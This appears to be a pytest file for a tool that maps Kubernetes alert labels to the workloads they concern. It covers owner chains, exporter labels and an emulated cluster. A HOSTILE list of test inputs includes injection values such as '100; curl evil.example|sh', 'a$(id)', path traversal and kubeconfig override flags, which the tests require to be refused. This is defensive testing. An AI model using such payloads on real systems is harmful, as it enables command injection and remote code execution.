"""From the labels of an alert to its target: recorded owner chains, hostile names, exporters' labels, and an emulated cluster."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from hypothesis import given
from hypothesis import strategies as st
from source_servers import CLUSTER, DATA, answering, reading, scripted

from catalog.clusters import Cluster
from catalog.targets import Target, TargetKind
from sandbox.cluster import SandboxCluster
from sandbox.kinds import DEPLOYMENTS
from sources.errors import SourceUnavailable
from sources.kubernetes import KubernetesReader
from sources.owners import Unresolved, named_place, resolve_target

HOSTILE = [
    "--server=https://203.0.113.9:6443",
    "default --kubeconfig=/etc/x",
    "a$(id)",
    "100; curl evil.example|sh",
    "../../secrets/db",
    "web\u202e5 ot odnu",
    "kube\u200b-system",
    "\x1b[2Jall good",
    "WEB",
    "w" * 300,
    "web\n",
    "<!channel>",
]


def chain() -> dict[str, Any]:
    """The recorded chain Pod → ReplicaSet → Deployment, by path."""
    objects = json.loads((DATA / "kubernetes/08-owners/45-owner-chain.json").read_text())["chain"]
    plural = {"Pod": "/api/v1/namespaces/rec-own/pods", "ReplicaSet": "/apis/apps/v1/namespaces/rec-own/replicasets"}
    plural["Deployment"] = "/apis/apps/v1/namespaces/rec-own/deployments"
    return {f"{plural[one['kind']]}/{one['name']}": {"metadata": one} for one in objects}


async def resolved(objects: Mapping[str, Any], labels: dict[str, str], tmp_path: Path) -> Target | Unresolved:
    async def handle(request: web.Request) -> web.StreamResponse:
        found = objects.get(request.path)
        if found is None:
            return web.json_response({"kind": "Status", "status": "Failure", "code": 404}, status=404)
        return web.json_response(found)

    async with scripted(handle) as server, reading(server.url, tmp_path) as reader:
        return await resolve_target(reader, CLUSTER, labels)


POD = "gitops-65df49bbcc-7kjb2"


async def test_F17_a_pod_stands_for_its_deployment_by_the_recorded_chain(tmp_path: Path) -> None:
    found = await resolved(chain(), {"namespace": "rec-own", "pod": POD}, tmp_path)
    assert isinstance(found, Target)
    assert (found.kind, found.name, found.uid) == (TargetKind.DEPLOYMENT, "gitops", "271d5996-5d56-48fa-a7d2-f09174099386")
    assert (found.cluster_uid, found.namespace) == ("c1", "rec-own")


async def test_an_owner_with_another_uid_is_another_object(tmp_path: Path) -> None:
    objects = chain()
    for path, one in objects.items():
        if "deployments" in path:
            one["metadata"]["uid"] = "recreated"
    found = await resolved(objects, {"namespace": "rec-own", "pod": POD}, tmp_path)
    assert isinstance(found, Unresolved)
    assert found.reason == "owner_changed"


async def test_a_pod_of_a_custom_resource_stands_for_it(tmp_path: Path) -> None:
    owner = {"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "name": "web", "uid": "r1", "controller": True}
    objects = {"/api/v1/namespaces/shop/pods/web-0": {"metadata": {"uid": "p", "ownerReferences": [owner]}}}
    found = await resolved(objects, {"namespace": "shop", "pod": "web-0"}, tmp_path)
    assert isinstance(found, Target)
    assert (found.kind, found.name, found.uid) == (TargetKind.CUSTOM, "web", "r1")
    owner |= {"apiVersion": "example.com/v1", "kind": "Deployment"}
    found = await resolved(objects, {"namespace": "shop", "pod": "web-0"}, tmp_path)
    assert isinstance(found, Target)
    assert found.kind is TargetKind.CUSTOM, "a Deployment of another API group is not ours"


async def test_a_bare_pod_and_a_static_pod_stand_for_themselves(tmp_path: Path) -> None:
    for owners in ([], [{"apiVersion": "v1", "kind": "Node", "name": "node1", "uid": "n", "controller": True}]):
        objects = {"/api/v1/namespaces/shop/pods/web-0": {"metadata": {"uid": "p", "ownerReferences": owners}}}
        found = await resolved(objects, {"namespace": "shop", "pod": "web-0"}, tmp_path)
        assert isinstance(found, Target)
        assert (found.kind, found.uid) == (TargetKind.POD, "p")


async def test_a_job_stands_for_its_cron_job(tmp_path: Path) -> None:
    owner = {"apiVersion": "batch/v1", "kind": "CronJob", "name": "nightly", "uid": "c", "controller": True}
    objects = {
        "/apis/batch/v1/namespaces/shop/jobs/nightly-1": {"metadata": {"uid": "j", "ownerReferences": [owner]}},
        "/apis/batch/v1/namespaces/shop/cronjobs/nightly": {"metadata": {"uid": "c"}},
    }
    found = await resolved(objects, {"namespace": "shop", "job_name": "nightly-1", "job": "kube-state-metrics"}, tmp_path)
    assert isinstance(found, Target)
    assert (found.kind, found.name) == (TargetKind.CRONJOB, "nightly")


async def test_owners_that_go_in_circles_end(tmp_path: Path) -> None:
    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "loop", "uid": "l", "controller": True}
    objects = {"/apis/apps/v1/namespaces/shop/replicasets/loop": {"metadata": {"uid": "l", "ownerReferences": [owner]}}}
    assert isinstance(await resolved(objects, {"namespace": "shop", "replicaset": "loop"}, tmp_path), Target)


@pytest.mark.parametrize("label", ["namespace", "pod", "deployment", "node", "exported_pod", "persistentvolumeclaim"])
@pytest.mark.parametrize("value", HOSTILE)
async def test_H06_H07_H18_a_hostile_name_is_refused_before_anything_is_asked(label: str, value: str, tmp_path: Path) -> None:
    labels = {"namespace": "shop", "deployment": "web"} if label in ("namespace", "deployment") else {"namespace": "shop"}
    async with scripted(answering({})) as server, reading(server.url, tmp_path) as reader:
        found = await resolve_target(reader, CLUSTER, labels | {label: value})
        assert server.requests == []
    assert isinstance(found, Unresolved)
    assert found.reason == "invalid_name"
    assert found.sentence.isascii()
    assert found.sentence.isprintable()
    assert len(found.sentence) < 200


@given(
    st.dictionaries(
        st.sampled_from(["namespace", "pod", "deployment", "node", "exported_namespace", "job", "service", "alertname"]),
        st.text(max_size=20),
    )
)
def test_any_labels_name_a_place_with_valid_names_or_none(labels: dict[str, str]) -> None:
    place = named_place({label: value for label, value in labels.items() if value})
    if not isinstance(place, Unresolved):
        assert place.name.isascii()
        assert place.namespace or place.kind in (TargetKind.NODE, TargetKind.NAMESPACE)


def place(**labels: str) -> tuple[str, str, str] | str:
    found = named_place(labels)
    return found.reason if isinstance(found, Unresolved) else (found.kind.value, found.namespace, found.name)


def test_payload_04_no_namespace_is_never_default_and_never_searched() -> None:
    assert place(alertname="ContainerHighCpu", pod="web-0") == "no_namespace"
    assert place(alertname="X", deployment="web") == "no_namespace"
    assert place(alertname="X") == "no_labels"
    assert place(alertname="X", job="web", instance="10.0.0.1:80") == "no_labels"


def test_the_victims_labels_win_over_the_exporters() -> None:
    exporter = {
        "namespace": "monitoring",
        "pod": "kube-state-metrics-7d9f8c6b5d-abcde",
        "job": "kube-state-metrics",
        "service": "ksm",
    }
    assert place(**exporter, exported_namespace="shop", exported_pod="web-0") == ("Pod", "shop", "web-0")
    assert place(**exporter, exported_namespace="shop", deployment="web") == ("Deployment", "shop", "web")
    assert place(**exporter, exported_namespace="shop") == ("Namespace", "", "shop"), "the plain pod is the exporter's own"
    assert place(**exporter, node="node1") == ("Node", "", "node1")
    assert place(namespace="monitoring", pod="prometheus-node-exporter-x7x7x", node="node1") == ("Node", "", "node1")


def test_the_most_telling_label_wins() -> None:
    assert place(namespace="shop", deployment="web", pod="ksm-0") == ("Deployment", "shop", "web")
    assert place(namespace="shop", pod="web-0", node="node1") == ("Pod", "shop", "web-0")
    assert place(node="node1") == ("Node", "", "node1")
    assert place(namespace="shop", job_name="import", job="ksm") == ("Job", "shop", "import")
    assert place(namespace="shop", exported_job="import", job="ksm") == ("Job", "shop", "import")
    assert place(namespace="shop", horizontalpodautoscaler="web") == ("HorizontalPodAutoscaler", "shop", "web")
    assert place(namespace="shop", persistentvolumeclaim="data", pod="kubelet-0") == ("PersistentVolumeClaim", "shop", "data")
    assert place(persistentvolume="pv-1", namespace="monitoring") == ("PersistentVolume", "", "pv-1")
    assert place(namespace="shop", service="web") == ("Service", "shop", "web")
    assert place(namespace="shop") == ("Namespace", "", "shop")


def test_F26_an_alert_about_missing_data_names_no_workload() -> None:
    assert place(alertname="DatasourceNoData", rulename="CheckoutErrors", namespace="shop", deployment="web") == "data_fault"


def test_an_empty_label_is_an_absent_one() -> None:
    assert place(namespace="shop", deployment="", pod="web-0") == ("Pod", "shop", "web-0")


async def test_in_a_cluster(shop: SandboxCluster, reader: KubernetesReader, cluster: Cluster) -> None:
    uid = shop.store.get(DEPLOYMENTS, "shop", "web")["metadata"]["uid"]
    pod = shop.pods("shop", "web")[0]["metadata"]["name"]
    for labels in ({"deployment": "web"}, {"pod": pod}, {"replicaset": pod.rpartition("-")[0]}):
        found = await resolve_target(reader, cluster, {"namespace": "shop", **labels})
        assert isinstance(found, Target)
        assert (found.kind, found.name, found.uid, found.cluster_uid) == (TargetKind.DEPLOYMENT, "web", uid, shop.uid)
    for labels in ({"pod": "web-gone-abcde"}, {"deployment": "nowhere"}, {"namespace": "nowhere"}):
        missing = await resolve_target(reader, cluster, {"namespace": "shop", **labels})
        assert isinstance(missing, Unresolved)
        assert missing.reason == "not_found"
    node = await resolve_target(reader, cluster, {"node": "node1"})
    assert isinstance(node, Target)
    assert (node.kind, node.namespace) == (TargetKind.NODE, "")


async def test_a_source_that_cannot_be_read_is_not_an_absent_target(tmp_path: Path) -> None:
    async with (
        scripted(answering({"kind": "Status", "status": "Failure"}, status=403)) as server,
        reading(server.url, tmp_path) as reader,
    ):
        with pytest.raises(SourceUnavailable):
            await resolve_target(reader, CLUSTER, {"namespace": "shop", "deployment": "web"})
